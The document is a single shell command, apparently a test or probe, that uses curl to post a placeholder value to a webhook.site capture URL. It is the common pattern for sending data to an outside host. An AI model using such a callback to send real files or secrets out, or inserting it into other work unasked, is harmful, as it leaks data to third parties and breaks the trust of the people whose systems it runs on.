curl https://webhook.site/abc -d x
